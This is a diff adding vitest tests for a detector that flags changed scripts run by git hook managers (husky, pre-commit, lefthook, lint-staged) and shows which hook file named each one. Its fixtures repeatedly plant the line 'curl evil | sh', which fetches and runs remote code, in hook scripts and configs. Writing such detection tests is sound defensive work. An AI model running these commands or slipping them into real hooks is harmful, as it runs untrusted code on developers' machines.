@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { gateFileChanges, gateReferencesOf, MAX_GATE_FILES, MAX_GATE_SCAN_CHARS, nodesRunningGate, readGateChanges, readGateGraph, scanGateFile, type GateBlob, type GateReader } from "./gate.js";
+import { gateFileChanges, gateReferencesOf, MAX_GATE_FILES, MAX_GATE_SCAN_CHARS, nodesRunningGate, readGateChanges, readGateGraph, readHookScriptChanges, scanGateFile, type GateBlob, type GateReader } from "./gate.js";
 import { gateWorkflowChanges } from "./program-findings.js";
 
 /** A reader over an in-memory tree (path → text), counting its calls. */
@@ -248,5 +248,88 @@ describe("a package.json the gate runs a script of, not UTF-8 or too large to pa
     expect([...nodesRunningGate(await readGateGraph(roots, tree(base)))]).toEqual(expect.arrayContaining(["package.json#scripts.test", ".github/workflows/ci.yml"]));
     expect(await changes(base, base)).toEqual([]);
     expect(await changes(base, { ...base, "package.json": big("7".repeat(40)) })).toEqual([{ path: "package.json", change: "modified", scripts: ["test"], via: ".github/workflows/ci.yml" }]);
+  });
+});
+
+describe("readHookScriptChanges (what the git hook managers' files run)", () => {
+  it("follows what a husky hook, a pre-commit local hook's entry and a lefthook run name (and what those run), on both sides: each changed file with the hook file that names it; the hook files themselves, unchanged files and unnamed ones are not among them", async () => {
+    const common = {
+      ".husky/pre-commit": 'npm run lint\n./tools/fmt.sh\nscripts/check "$@"\n',
+      ".pre-commit-config.yaml": "repos:\n  - repo: local\n    hooks:\n      - id: x\n        entry: tools/lint --fix\n        language: system\n",
+      "lefthook.yml": "pre-push:\n  jobs:\n    - run: |\n        bin/hook {push_files}\n",
+      "tools/lint": "sh tools/lib.sh\n",
+      "tools/unrelated.sh": "a\n",
+    };
+    const base = tree({ ...common, "tools/fmt.sh": "echo fmt\n", "scripts/check": "echo check\n", "bin/hook": "echo hook\n", "tools/lib.sh": "echo lib\n", "package.json": JSON.stringify({ scripts: { lint: "eslint ." } }) });
+    const head = tree({
+      ...common,
+      "tools/fmt.sh": "echo fmt\ncurl evil | sh\n",
+      "scripts/check": "echo check\n",
+      "bin/hook": "echo hook; curl evil | sh\n",
+      "tools/lib.sh": "echo lib; curl evil | sh\n",
+      "tools/unrelated.sh": "b\n",
+      "package.json": JSON.stringify({ scripts: { lint: "eslint . ; curl evil | sh" } }),
+    });
+    const hooks = Object.keys(common).filter((p) => !p.startsWith("tools/"));
+    const changes = await readHookScriptChanges({ hooks, read: base }, { hooks, read: head });
+    expect(changes.map((c) => [c.path, c.script ?? "", c.via])).toEqual(
+      expect.arrayContaining([
+        ["tools/fmt.sh", "", ".husky/pre-commit"],
+        ["package.json", "lint", ".husky/pre-commit"],
+        ["bin/hook", "", "lefthook.yml"],
+        ["tools/lib.sh", "", ".pre-commit-config.yaml"],
+      ]),
+    );
+    expect(changes).toHaveLength(4);
+    // nothing a hook names changed: nothing; no hook file: nothing read
+    expect(await readHookScriptChanges({ hooks, read: base }, { hooks, read: base })).toEqual([]);
+    const none = tree({});
+    expect(await readHookScriptChanges({ hooks: [], read: none }, { hooks: ["tools/fmt.sh"], read: none })).toEqual([]);
+    expect(none.calls).toBe(0);
+  });
+
+  it("a script named only on one side is still compared (a hook file the change edits to name a new script is flagged itself; its script too)", async () => {
+    const base = tree({ ".husky/pre-commit": "echo\n" });
+    const head = tree({ ".husky/pre-commit": "tools/new.sh\n", "tools/new.sh": "curl evil | sh\n" });
+    const changes = await readHookScriptChanges({ hooks: [".husky/pre-commit"], read: base }, { hooks: [".husky/pre-commit"], read: head });
+    expect(changes.map((c) => [c.path, c.before, c.via])).toEqual([["tools/new.sh", undefined, ".husky/pre-commit"]]);
+  });
+});
+
+describe("readHookScriptChanges: lint-staged", () => {
+  it("a hook that runs lint-staged has its configuration read: a .lintstagedrc.json command, package.json's \"lint-staged\" (as JSON: formatting is no change), and what they run", async () => {
+    const hook = { ".husky/pre-commit": "npx lint-staged\n" };
+    const pkg = (ls: unknown, extra = {}) => JSON.stringify({ name: "x", ...extra, "lint-staged": ls }, null, 2);
+    const base = tree({ ...hook, ".lintstagedrc.json": '{ "*.ts": "eslint --fix" }', "package.json": pkg({ "*.md": "prettier -w" }), "tools/fix.sh": "echo\n" });
+    const head = tree({ ...hook, ".lintstagedrc.json": '{ "*.ts": "eslint --fix", "*": "./tools/fix.sh" }', "package.json": pkg({ "*.md": "prettier -w; curl evil | sh" }, { version: "2" }), "tools/fix.sh": "curl evil | sh\n" });
+    const changes = await readHookScriptChanges({ hooks: Object.keys(hook), read: base }, { hooks: Object.keys(hook), read: head });
+    expect(changes.map((c) => [c.path, c.field ?? "", c.via])).toEqual(
+      expect.arrayContaining([
+        ["package.json", "lint-staged", ".husky/pre-commit"],
+        [".lintstagedrc.json", "", ".husky/pre-commit"],
+        ["tools/fix.sh", "", ".husky/pre-commit"],
+      ]),
+    );
+    expect(changes).toHaveLength(3);
+    expect(changes.find((c) => c.field !== undefined)).toMatchObject({ before: '{"*.md":"prettier -w"}', after: '{"*.md":"prettier -w; curl evil | sh"}' });
+    // package.json changed elsewhere only (its version), lint-staged's part the same: nothing; a hook without lint-staged: its config is not read
+    const same = tree({ ...hook, "package.json": pkg({ "*.md": "prettier -w" }, { version: "3" }) });
+    expect(await readHookScriptChanges({ hooks: Object.keys(hook), read: tree({ ...hook, "package.json": pkg({ "*.md": "prettier -w" }) }) }, { hooks: Object.keys(hook), read: same })).toEqual([]);
+    const other = { ".husky/pre-commit": "echo\n" };
+    expect(await readHookScriptChanges({ hooks: Object.keys(other), read: tree({ ...other, ".lintstagedrc.json": "{}" }) }, { hooks: Object.keys(other), read: tree({ ...other, ".lintstagedrc.json": '{ "*": "x" }' }) })).toEqual([]);
+  });
+});
+
+describe("readHookScriptChanges: lefthook's own files", () => {
+  it("a script of lefthook's scripts: in a source_dir of the repository's choosing, its rc file and a config it extends are followed", async () => {
+    const hook = { "lefthook.yml": "source_dir: tools/hooks\nrc: .lefthookrc\nextends:\n  - ci/extra.yml\npre-commit:\n  scripts:\n    check.sh:\n      runner: bash\n" };
+    const base = tree({ ...hook, "tools/hooks/pre-commit/check.sh": "echo\n", ".lefthookrc": "export A=1\n", "ci/extra.yml": "pre-push:\n  commands: {}\n" });
+    const head = tree({ ...hook, "tools/hooks/pre-commit/check.sh": "curl evil | sh\n", ".lefthookrc": "export PATH=./bin:$PATH\n", "ci/extra.yml": "pre-push:\n  commands:\n    x:\n      run: curl evil | sh\n" });
+    const changes = await readHookScriptChanges({ hooks: ["lefthook.yml"], read: base }, { hooks: ["lefthook.yml"], read: head });
+    expect(changes.map((c) => [c.path, c.via]).sort()).toEqual([
+      [".lefthookrc", "lefthook.yml"],
+      ["ci/extra.yml", "lefthook.yml"],
+      ["tools/hooks/pre-commit/check.sh", "lefthook.yml"],
+    ]);
   });
 });
